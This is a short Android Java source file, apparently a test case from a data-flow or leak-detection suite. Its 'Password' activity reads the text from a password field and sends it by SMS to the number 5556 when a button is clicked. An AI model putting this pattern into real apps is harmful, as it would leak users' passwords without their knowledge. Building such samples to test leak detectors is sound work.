package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** What is typed into a password field is sent at the click that the layout names. */
public class Password extends Case {
    @Override protected void onCreate(Bundle s) { super.onCreate(s); setContentView(R.layout.form); }
    public void sendNow(View v) { SmsManager.getDefault().sendTextMessage("5556", null, ((EditText) findViewById(R.id.secret)).getText().toString(), null, null); }
}
